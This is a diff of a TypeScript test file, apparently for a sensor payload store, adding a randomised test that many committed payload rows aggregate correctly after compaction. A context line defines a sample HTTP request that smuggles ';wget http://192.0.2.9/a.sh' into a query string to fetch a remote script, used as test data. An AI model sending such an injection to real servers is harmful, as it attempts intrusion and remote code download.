@@ -8,6 +8,7 @@ import { ingestCommit, NOON_SECONDS } from '../support/commits.ts';
 import { sourceWords } from '../support/evidence.ts';
 import { testFolder } from '../support/folders.ts';
 import { keyOf, payloadRow, sketchOf, type TestPayload } from '../support/payload-rows.ts';
+import { randomNumbers } from '../support/random-flows.ts';
 
 const DAY = 86_400;
 const WGET = 'GET /?x=1;wget http://192.0.2.9/a.sh HTTP/1.1\r\n\r\n';
@@ -206,6 +207,57 @@ test.for(bad)('%s: nothing of the commit is stored', async ([, change]) => {
   expect((await list()).total).toBe(1);
   await commit({ text: 'also good' });
   expect((await list()).total).toBe(2);
+  await stores.close();
+});
+
+test('thousands of payloads in many rows are as if each had come in one', async () => {
+  const { stores, commit } = await openStores({ payloadLimits: { rows: 4_600, actOn: 1_000_000 } });
+  const random = randomNumbers();
+  const below = (most: number) => Math.floor(random() * most);
+  const model = new Map<
+    string,
+    { packets: number; first: number; last: number; sensors: Set<number>; from: Set<string> }
+  >();
+  for (let round = 0; round < 3; round++) {
+    const rows = Array.from({ length: 3_000 }, () => {
+      const text = `payload ${below(4_500)}`;
+      const [first, packets, sensor, source] = [
+        NOON_SECONDS + below(1_000),
+        1 + below(9),
+        1 + below(3),
+        `10.0.0.${below(99)}`,
+      ];
+      const last = first + below(100);
+      const known = model.get(text) ?? { packets: 0, first, last, sensors: new Set<number>(), from: new Set<string>() };
+      model.set(text, known);
+      known.packets += packets;
+      known.first = Math.min(known.first, first);
+      known.last = Math.max(known.last, last);
+      known.sensors.add(sensor);
+      known.from.add(source);
+      return { text, packets, sensor, firstSeconds: first, lastSeconds: last, sources: [source] };
+    });
+    await commit(...rows);
+    if (round < 2) await stores.compact();
+  }
+  const present = [...model.values()].reduce((sum, { packets }) => sum + packets, 0);
+  for (const _ of [1, 2]) {
+    const { total, payloads } = await stores.payloads.list({ session: 0, order: 'packets', limit: 500 });
+    expect(total).toBe(model.size);
+    expect(payloads).toHaveLength(500);
+    for (const payload of payloads) {
+      const text = Buffer.from(payload.bytes).toString();
+      const known = model.get(text)!;
+      expect(payload).toMatchObject({
+        ...{ ...keyOf(text), packets: known.packets, firstSeconds: known.first, lastSeconds: known.last },
+        sensors: [...known.sensors].sort(),
+        sources: countSources(sketchOf([...known.from])),
+      });
+    }
+    // More rows than the limit, and fewer payloads: nothing is given up.
+    expect(await stores.payloads.account(0)).toEqual({ present, expired: 0, givenUp: 0 });
+    await stores.compact();
+  }
   await stores.close();
 });
 
